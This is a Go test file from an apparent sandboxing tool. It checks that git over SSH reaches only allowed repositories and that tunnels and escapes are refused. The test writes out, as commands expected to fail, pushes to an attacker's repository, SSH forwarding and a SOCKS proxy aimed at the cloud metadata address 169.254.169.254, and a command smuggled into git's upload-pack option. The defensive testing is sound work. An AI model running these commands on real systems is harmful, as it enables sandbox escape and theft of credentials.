package attacks

import (
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"
	"golang.org/x/crypto/ssh/knownhosts"

	"github.com/bothy-dev/bothy/test/harness"
	"github.com/bothy-dev/bothy/test/stage"
)

// repositories is a directory with repositories, which a server of SSH serves like git.
type repositories string

// git runs git on the host, in a repository or next to them.
func (f repositories) git(t *testing.T, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = string(f)
	cmd.Env = append(os.Environ(), "HOME="+string(f), "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@x", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@x")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v: %s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// newRepositories makes the repositories, each with one file that names its owner.
func newRepositories(t *testing.T, names ...string) repositories {
	t.Helper()
	f := repositories(t.TempDir())
	for _, name := range names {
		f.git(t, "init", "-q", "-b", "main", "work")
		if err := os.WriteFile(filepath.Join(string(f), "work/file"), []byte("of "+name+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		f.git(t, "-C", "work", "add", "file")
		f.git(t, "-C", "work", "commit", "-q", "-m", name)
		f.git(t, "clone", "-q", "--bare", "work", name+".git")
		if err := os.RemoveAll(filepath.Join(string(f), "work")); err != nil {
			t.Fatal(err)
		}
	}
	return f
}

// run is the server's answer to a command.
func (f repositories) run(command, protocol string, ch ssh.Channel) uint32 {
	m := regexp.MustCompile(`^(git-upload-pack|git-receive-pack) '([a-z/.]+)'$`).FindStringSubmatch(command)
	if m == nil {
		return 127
	}
	cmd := exec.Command("git", strings.TrimPrefix(m[1], "git-"), filepath.Join(string(f), strings.TrimSuffix(m[2], ".git")+".git"))
	cmd.Env = append(os.Environ(), "HOME="+string(f), "GIT_PROTOCOL="+protocol)
	cmd.Stdout, cmd.Stderr = ch, ch.Stderr()
	in, err := cmd.StdinPipe()
	if err != nil || cmd.Start() != nil {
		return 126
	}
	go func() { _, _ = io.Copy(in, ch); _ = in.Close() }()
	if cmd.Wait() != nil {
		return 1
	}
	return 0
}

// TestA17GitOverSSH checks that git fetches and pushes over SSH only the repositories of a rule. No
// other repository, no other command, and no tunnel gets out. The server reports what arrived
// (A17).
func TestA17GitOverSSH(t *testing.T) {
	harness.AsUser(t)
	for _, program := range []string{"/usr/bin/ssh", "/usr/bin/git", "/usr/bin/sftp"} {
		if _, err := os.Stat(program); err != nil {
			harness.Missing(t, "%v", err)
		}
	}
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		f := newRepositories(t, "team/app", "mallory/drop")
		w := newSSHWorld(t, c, s.Take(t, "22"))
		w.run = f.run
		for _, host := range []string{knownServer, unknownServer} {
			s.Leads(host, stage.Host4.String())
			c.Must(t, "policy", "allow", host+":22", "--git", "team/app")
		}
		c.Must(t, "create", "--name", "box", "shell", c.Work)
		clone := "rm -rf /tmp/app; git clone -q git@" + knownServer + ":team/app.git /tmp/app && cat /tmp/app/file"
		if r := c.Sh("box", "", "export GIT_SSH_COMMAND='ssh -o BatchMode=yes -o StrictHostKeyChecking=yes'; "+clone); r.Code == 0 || !strings.Contains(r.Stderr, "--lend ssh") || len(w.came()) != 0 {
			t.Errorf("without a key: %v", r)
		}
		c.Must(t, "run", "--name", "box", "--lend", "ssh", "--", "true")
		if r := c.Sh("box", "", clone); r.Stdout != "of team/app\n" {
			t.Errorf("a clone: %v", r)
		}
		if got := w.wanted(); !slices.Equal(got, []string{"env GIT_PROTOCOL", "git-upload-pack 'team/app.git'"}) {
			t.Errorf("the server was asked for %q", got)
		}
		w.works(t, c, clone)
		push := `cd /tmp/app && echo more >> file && git -c user.name=b -c user.email=b@x commit -qam more && git push -q origin main`
		before := f.git(t, "-C", "team/app.git", "rev-parse", "main")
		if r := c.Sh("box", "", push); r.Code == 0 || !strings.Contains(r.Stderr, "--git team/app --push") || len(w.wanted()) != 0 || f.git(t, "-C", "team/app.git", "rev-parse", "main") != before {
			t.Errorf("a push that is not allowed: %v", r)
		}
		w.noTunnel(t, c)
		c.Must(t, "policy", "allow", knownServer+":22", "--git", "team/app", "--push")
		if r := c.Sh("box", "", push); r.Code != 0 || f.git(t, "-C", "team/app.git", "show", "main:file") != "of team/app\nmore\nmore" {
			t.Errorf("a push: %v", r)
		}
		w.wanted()
		w.came()
		for what, script := range map[string]string{
			"an attacker's repository": `git clone -q git@` + knownServer + `:mallory/drop /tmp/drop`,
			"a push to it":             `cd /tmp/app && git push -q git@` + knownServer + `:mallory/drop main`,
			"an unknown server":        `git clone -q git@` + unknownServer + `:team/app /tmp/stranger`,
		} {
			if r := c.Sh("box", "", script); r.Code == 0 || !strings.Contains(r.Stderr, "bothy: ") || len(w.came()) != 0 {
				t.Errorf("%s: %v", what, r)
			}
		}
		c.Must(t, "secret", "revoke", "--all")
		if r := c.Sh("box", "", clone); r.Code == 0 || len(w.came()) != 0 {
			t.Errorf("after the lease: %v", r)
		}
		log := c.Must(t, "policy", "log", "box")
		if !strings.Contains(log, knownServer+":22") || !strings.Contains(log, "--git mallory/drop") {
			t.Errorf("the log:\n%s", log)
		}
		c.Must(t, "rm", "-f", "box")
	})
}

// works tries common configurations, which must not break.
func (w *sshWorld) works(t *testing.T, c *harness.Caller, clone string) {
	t.Helper()
	for what, before := range map[string]string{
		"one connection for several commands":  `export GIT_SSH_COMMAND="$GIT_SSH_COMMAND -o ControlMaster=auto -o ControlPath=/tmp/%C -o ControlPersist=20"; git ls-remote -q git@` + knownServer + `:team/app >/dev/null; `,
		"a home that knows the server's key":   `mkdir -p ~/.ssh; echo '` + knownhosts.Line([]string{knownServer}, w.host) + `' > ~/.ssh/known_hosts; `,
		"a client that checks, without a word": `rm -f ~/.ssh/known_hosts; export GIT_SSH_COMMAND="ssh -o BatchMode=yes -o StrictHostKeyChecking=yes"; `,
		"a client that offers an old version":  `export GIT_PROTOCOL=version=0; git config --global protocol.version 0; `,
	} {
		if r := c.Sh("box", "", before+clone); r.Stdout != "of team/app\n" {
			t.Errorf("%s: %v", what, r)
		}
	}
	w.wanted()
}

// noTunnel tries other features of SSH.
func (w *sshWorld) noTunnel(t *testing.T, c *harness.Caller) {
	t.Helper()
	w.came()
	const strict = "-o BatchMode=yes -o StrictHostKeyChecking=yes "
	at := "git@" + knownServer
	for what, script := range map[string]string{
		"a shell":               "ssh -T " + strict + at + " </dev/null",
		"a shell in a terminal": "ssh -tt " + strict + at + " </dev/null",
		"a command":             "ssh " + strict + at + " id",
		"two commands":          "ssh " + strict + at + ` "git-upload-pack 'team/app'; id"`,
		"an option":             "ssh " + strict + at + ` "git-upload-pack --strict 'team/app'"`,
		"a file":                "echo ls | sftp -b - " + strict + at,
		"-W":                    "ssh " + strict + "-W 169.254.169.254:80 " + at,
		"-R":                    "ssh " + strict + "-o ExitOnForwardFailure=yes -N -R 2222:127.0.0.1:22 " + at,
		"-R of a socket":        "ssh " + strict + "-o ExitOnForwardFailure=yes -N -R /tmp/s:/tmp/t " + at,
		"an archive":            "git archive --remote=" + at + ":team/app main",
		"a jump":                "ssh " + strict + "-J " + at + " git@" + unknownServer + " git-upload-pack",
		"another program":       "git clone -q -u 'id;git-upload-pack' " + at + ":team/app /tmp/other",
	} {
		r := c.Sh("box", "", "timeout 30 "+script)
		if strings.Contains(script, "|") {
			r = c.Sh("box", "", script)
		}
		if r.Code == 0 || r.Code == 124 || strings.Contains(r.Stderr, "verification failed") {
			t.Errorf("%s: %v", what, r)
		}
	}
	if r := c.Sh("box", "", "ssh -f -N -D 1080 "+strict+at+" && curl -sS -m 10 -x socks5h://127.0.0.1:1080 http://169.254.169.254/; code=$?; ssh -O exit "+at+" 2>/dev/null; exit $code"); r.Code == 0 {
		t.Errorf("-D: %v", r)
	}
	if got, in := w.wanted(), w.came(); len(got) != 0 || len(in) != 0 {
		t.Errorf("the server was asked for %q by %q", got, in)
	}
}
